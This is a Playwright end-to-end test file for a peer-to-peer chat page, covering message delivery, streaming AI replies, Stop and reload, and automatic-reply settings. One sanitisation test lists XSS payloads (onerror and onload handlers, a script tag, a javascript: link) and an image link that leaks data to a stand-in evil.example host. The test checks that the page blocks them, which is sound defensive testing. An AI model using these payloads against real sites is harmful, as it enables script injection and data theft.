/** The chat page in Chromium, with the whole overlay behind it. */
import type { Page } from 'playwright-core'
import { expect, test } from 'vitest'
import { Me } from '../../shared/protocol/peer-api.ts'
import { call, PeerClient } from '../harness/peer-client.ts'
import { demonstrationInBrowser } from './demonstration.ts'

const { overlay, browser } = await demonstrationInBrowser()

const alicePage = (hash = '') => browser.page(`${overlay.peer(1)}/${hash}`)

async function send(page: Page, to: string, text: string): Promise<void> {
  await page.getByTestId(`conversation-${to}`).click()
  await page.getByRole('textbox', { name: `Message to ${to}` }).fill(text)
  await page.getByRole('button', { name: 'Send' }).click()
}

/** Notes the length of the newest answer at every frame. */
const WATCH_GROWTH = `
  globalThis.lengths = []
  const look = () => {
    const last = [...document.querySelectorAll('[data-testid=message].theirs [data-testid=bubble]')].at(-1)
    if (last !== undefined) lengths.push(last.textContent.length)
    requestAnimationFrame(look)
  }
  look()
`

/** Counts the frames, and the times that messages were added to the log. */
const WATCH_DRAWING = `
  globalThis.drawing = { frames: 0, added: 0 }
  const next = () => requestAnimationFrame(() => { drawing.frames += 1; next() })
  next()
  new MutationObserver(() => { drawing.added += 1 })
    .observe(document.querySelector('.log-content'), { childList: true })
`

/** Resolves once the peer itself reports the mode. */
async function modeIs(mode: string): Promise<void> {
  while (Me.parse((await call('GET', `${overlay.peer(1)}/api/me`)).body).mode !== mode)
    await new Promise(resolve => setImmediate(resolve))
}

const bubbles = (page: Page) => page.getByTestId('message')

test('alice writes to behrooz, who sees it without a reload and answers; the delivery state becomes read', async () => {
  const behrooz = await browser.page(`${overlay.peer(0)}/#/alice`)
  const alice = await alicePage()
  await send(alice, 'behrooz', 'Good morning, Behrooz!')
  await behrooz.getByTestId('conversation-alice').click()
  await bubbles(behrooz).filter({ hasText: 'Good morning, Behrooz!' }).waitFor()
  await alice.locator('[data-testid=delivery][data-state=read]').waitFor()
  await send(behrooz, 'alice', 'Good morning, Alice!')
  await bubbles(alice).filter({ hasText: 'Good morning, Alice!' }).waitFor()
  await behrooz.close()
  await alice.close()
})

test('messages that come faster than they can be drawn are drawn together, once a frame', async () => {
  const page = await alicePage('#/behrooz')
  await page.getByRole('textbox', { name: 'Message to behrooz' }).waitFor()
  await page.evaluate(WATCH_DRAWING)
  using behrooz = await PeerClient.connect(overlay.peer(0))
  const texts = Array.from({ length: 300 }, (_, index) => `one of many: ${index}`)
  await Promise.all(texts.map(text => behrooz.send('alice', text)))
  await behrooz.send('alice', 'the last of many')
  await bubbles(page).filter({ hasText: 'the last of many' }).waitFor()
  const drawing: { frames: number; added: number } = await page.evaluate('drawing')
  expect(drawing.added).toBeGreaterThan(0)
  expect(drawing.added).toBeLessThanOrEqual(drawing.frames + 1)
  await page.close()
})

test("alice writes to bob and sees bob's automatic reply, marked as automatic", async () => {
  const page = await alicePage()
  await send(page, 'bob', 'Are you there, Bob?')
  const reply = page.locator('[data-testid=message].theirs')
  await reply.first().waitFor()
  expect(await reply.first().textContent()).toMatch(/automatic/i)
  expect(await page.locator('[data-testid=message].mine').first().textContent()).not.toMatch(/automatic/i)
  await page.close()
})

test('an AI answer grows piece by piece, never shrinks or blanks, and is labelled as a demonstration', async () => {
  const page = await alicePage()
  await page.getByTestId('conversation-GPT').click()
  await page.evaluate(WATCH_GROWTH)
  await send(page, 'GPT', 'Explain an overlay network. [[long 60]]')
  await page.getByRole('button', { name: 'Stop' }).waitFor()
  await page.getByRole('button', { name: 'Stop' }).waitFor({ state: 'detached' })
  const lengths: number[] = await page.evaluate('lengths')
  expect(new Set(lengths).size).toBeGreaterThan(5)
  expect(lengths.every((length, n) => n === 0 || length >= (lengths[n - 1] ?? 0) * 0.9)).toBe(true)
  expect(await page.locator('[data-testid=message].theirs').last().textContent()).toMatch(/demonstration/i)
  await page.close()
})

test('Stop keeps the text that came, also after a reload', async () => {
  const page = await alicePage('#/MISTRAL')
  await send(page, 'MISTRAL', 'Tell me a long story. [[long 400]]')
  const answer = page.locator('[data-testid=message].theirs [data-testid=bubble]').last()
  await answer.filter({ hasText: /\w+ \w+ \w+ \w+/ }).waitFor()
  await page.getByRole('button', { name: 'Stop' }).click()
  await page.getByTestId('ending').waitFor()
  const kept = await answer.textContent()
  await page.reload()
  await page.getByTestId('ending').waitFor()
  expect(await answer.textContent()).toBe(kept)
  await page.close()
})

test('a page that is reloaded in mid-answer goes on with it', async () => {
  const page = await alicePage('#/GEMINI')
  await send(page, 'GEMINI', 'A long one, please. [[long 80]]')
  await page.locator('[data-testid=message].growing').waitFor()
  await page.reload()
  await page.locator('[data-testid=message].growing').waitFor()
  await page.getByRole('button', { name: 'Stop' }).waitFor({ state: 'detached' })
  expect(await bubbles(page).count()).toBe(2)
  await page.close()
})

test('Markdown of an AI or a person loads nothing from elsewhere and runs nothing', async () => {
  const foreign: string[] = []
  const page = await alicePage('#/behrooz')
  page.on('request', request => {
    if (!request.url().startsWith(overlay.peer(1)) && !request.url().startsWith('data:')) foreign.push(request.url())
  })
  const hostile = [
    '![x](http://evil.example/leak?secret)',
    '<img src=x onerror="globalThis.hacked=1">',
    '<script>globalThis.hacked=1</script>',
    '[click](javascript:globalThis.hacked=1)',
    '<svg onload="globalThis.hacked=1"></svg><iframe src="http://evil.example"></iframe>',
    '<a href="http://evil.example" style="background:url(http://evil.example/x)">x</a>',
    '```html\n<img src=x onerror=globalThis.hacked=1>\n```',
  ]
  for (const text of hostile) {
    const before = await bubbles(page).count()
    await send(page, 'behrooz', text)
    await bubbles(page).nth(before).waitFor()
  }
  expect(foreign).toEqual([])
  expect(await page.evaluate(() => Reflect.get(globalThis, 'hacked'))).toBeUndefined()
  await page.close()
})

test('automatic replies are chosen in the page, by keyboard too, and the choice is kept', async () => {
  const page = await alicePage()
  const choice = page.getByRole('combobox', { name: 'Automatic replies' })
  expect(await choice.inputValue()).toBe('canned')
  await choice.focus()
  await page.keyboard.press('ArrowDown')
  await modeIs('away')
  await page.getByText('at most once a minute').waitFor()
  await choice.selectOption('Off')
  await modeIs('manual')
  await page.reload()
  await page.getByText('You answer by hand.').waitFor()
  expect(await choice.inputValue()).toBe('manual')
  await call('PUT', `${overlay.peer(1)}/api/me`, { mode: 'canned' })
  await page.getByText('gets a ready-made reply').waitFor()
  expect(await choice.inputValue()).toBe('canned')
  await page.close()
})

test("what a person's AI writes grows on their page as their own words, and Stop there stops it", async () => {
  const page = await alicePage('#/behrooz')
  await page.getByRole('combobox', { name: 'Automatic replies' }).selectOption('AI assistant')
  await page.getByText('GPT answers people in your name').waitFor()
  using behrooz = await PeerClient.connect(overlay.peer(0))
  const id = await behrooz.send('alice', 'Tell me all. [[long 400]] [[slow]]')
  const growing = page.locator('.message.mine.growing')
  await growing.filter({ hasText: 'word3' }).waitFor()
  await page.getByRole('button', { name: 'Stop' }).click()
  const stopped = await behrooz.message(message => message.metadata.replyTo === id)
  expect(stopped).toMatchObject({ sender: 'alice', metadata: { ending: 'cancelled' } })
  await growing.waitFor({ state: 'detached' })
  const own = page.getByTestId('message').last()
  expect(await own.getAttribute('class')).toContain('mine')
  expect(await own.locator('.message-foot').innerText()).toContain('automatic')
  await page.getByRole('combobox', { name: 'Automatic replies' }).selectOption('Canned')
  await modeIs('canned')
  await page.close()
})

test('clearing asks first, then forgets one conversation or all', async () => {
  const page = await alicePage('#/bob')
  await bubbles(page).first().waitFor()
  await page.getByRole('button', { name: /Actions for the conversation with bob/i }).click()
  await page.getByRole('menuitem', { name: /Clear conversation/ }).click()
  await page.getByRole('alertdialog').getByRole('button', { name: 'Cancel' }).click()
  expect(await bubbles(page).count()).toBeGreaterThan(0)
  await page.getByRole('button', { name: /Actions for the conversation with bob/i }).click()
  await page.getByRole('menuitem', { name: /Clear conversation/ }).click()
  await page.getByRole('alertdialog').getByRole('button', { name: 'Clear', exact: true }).click()
  await page.getByTestId('empty-conversation').waitFor()
  await page.reload()
  await page.getByTestId('empty-conversation').waitFor()
  await page.close()
})

test('no page complained on its console', () => {
  expect(browser.complaints).toEqual([])
})
